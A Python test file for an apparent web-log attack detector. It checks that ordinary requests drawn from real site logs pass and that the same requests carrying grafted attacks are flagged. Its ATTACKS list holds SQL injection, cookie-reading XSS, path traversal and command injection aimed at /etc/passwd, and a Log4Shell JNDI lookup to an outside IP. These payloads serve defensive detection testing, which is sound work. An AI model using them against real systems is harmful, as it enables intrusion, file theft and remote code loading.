"""The bundled model judges what the client sent, not the shape of the site.

Skeletons (method, path, parameter names) are drawn from the real access logs of sites that
neither training nor the threshold ever read (``trainer.corpus.BENCHMARK_SITES``). Each
skeleton's ordinary request, as logged, must score below the threshold; the same request
with an attack in one of its own values (a query value, or the path for a request without
one) must score at or above it. The paths real servers produce are all there: ``/``,
directory URLs ending in ``/``, autoindex sort links (``?C=M;O=A``), feeds (``?flav=rss20``),
static assets, percent-encoded non-Latin names.
"""

from __future__ import annotations

import random
from typing import Any

import numpy as np
import pytest

from bench.real_sites import ordinary
from logsentry.model_store.bundled import bundled_store
from logsentry.model_store.model.scoring import Detector
from logsentry.model_store.serving import load_detector
from logsentry.trainer.corpus import Corpus, default_corpus, graft

SITES = ("semicomplete", "erddap", "myopera")
PER_SITE = 150
ATTACKS = (
    "' OR '1'='1' --",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd",
    "; cat /etc/passwd",
    "${jndi:ldap://203.0.113.7/a}",
)


def _skeleton(event: dict[str, Any]) -> tuple[Any, ...]:
    return event.get("method"), event.get("path"), tuple(sorted(event.get("query") or {}))


@pytest.fixture(scope="module")
def detector() -> Detector:
    return load_detector(bundled_store())


@pytest.fixture(scope="module")
def skeletons() -> dict[str, list[dict[str, Any]]]:
    corpus_dir = default_corpus()
    assert corpus_dir is not None, "the tests run from a checkout, which holds bench/data"
    corpus = Corpus(corpus_dir)
    out = {}
    for site in SITES:
        # drawn as the traffic comes (a skeleton as often as it is visited), each skeleton once
        usual = [e for e in corpus.site_events(site) if ordinary(e)]
        random.Random(site).shuffle(usual)
        chosen: dict[tuple[Any, ...], dict[str, Any]] = {}
        for event in usual:
            if len(chosen) == PER_SITE:
                break
            chosen.setdefault(_skeleton(event), event)
        out[site] = list(chosen.values())
    return out


def test_the_sites_real_shapes_are_in_the_sample(skeletons: dict[str, list[dict[str, Any]]]) -> None:
    events = [e for site in SITES for e in skeletons[site]]
    assert len(events) >= 3 * 100
    assert any(e["path"] == "/" for e in events) or any(e["path"].endswith("/") for e in events)
    assert any(e.get("query") for e in events)


@pytest.mark.parametrize("site", SITES)
def test_ordinary_requests_pass_and_the_same_requests_with_an_attack_are_flagged(
    detector: Detector, skeletons: dict[str, list[dict[str, Any]]], site: str
) -> None:
    events = skeletons[site]
    passed = detector.score_events(events) < detector.threshold
    assert passed.mean() >= 0.99, [e["path"] for e, ok in zip(events, passed, strict=True) if not ok][:10]
    r = random.Random(f"attack/{site}")
    grafted = [graft(e, attack, r) for e in events for attack in ATTACKS]
    flagged = np.asarray(detector.score_events(grafted)) >= detector.threshold
    missed = [g for g, hit in zip(grafted, flagged, strict=True) if not hit]
    assert flagged.mean() >= 0.97, missed[:5]
